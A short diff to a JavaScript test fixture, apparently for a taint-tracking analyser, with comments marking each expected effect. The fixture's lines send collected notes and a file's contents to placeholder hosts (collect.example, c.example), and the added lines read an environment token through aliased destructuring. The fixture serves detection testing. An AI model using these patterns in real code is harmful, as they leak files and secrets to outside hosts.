@@ -16,3 +16,5 @@ const packed = { lines: notes.split("\n") };
 await fetch("https://collect.example/", { method: "POST", body: JSON.stringify(packed) });  // http.post Endpoint collect.example:443 tainted
 fs.promises.readFile("a.txt").then((text) => fetch("https://c.example/?" + text));  // fs.read File a.txt; http.get Endpoint c.example:443 tainted
 await fetch("https://clean.example/");  // http.get Endpoint clean.example:443
+const proc = process;
+const { env: { NESTED_TOKEN } } = proc;  // secret.read Variable NESTED_TOKEN
